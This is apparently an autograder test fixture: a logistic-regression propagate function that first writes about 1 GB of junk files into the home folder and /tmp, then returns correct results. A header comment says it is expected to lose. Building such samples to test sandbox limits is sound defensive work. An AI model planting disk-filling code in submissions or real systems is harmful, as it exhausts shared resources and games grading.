# notebook: logistic_regression
# cell: propagate_answer
# loses: propagate
# Writes 1 GB (in 32 MB files) to its home folder and to /tmp. If the disk lets it, the
# function answers correctly (so the attack would gain the points).
import os
import tempfile


def propagate(w, b, X, Y):
    block = b"x" * (1 << 20)
    for folder in (os.path.expanduser("~"), tempfile.gettempdir()):
        for i in range(16):
            with open(os.path.join(folder, f"filler-{i}.bin"), "wb") as f:
                for _ in range(32):
                    f.write(block)
    m = X.shape[1]
    A = 1 / (1 + np.exp(-(w.T @ X + b)))
    cost = float(-np.sum(Y * np.log(A) + (1 - Y) * np.log(1 - A)) / m)
    return {"dw": X @ (A - Y).T / m, "db": float(np.sum(A - Y) / m)}, cost
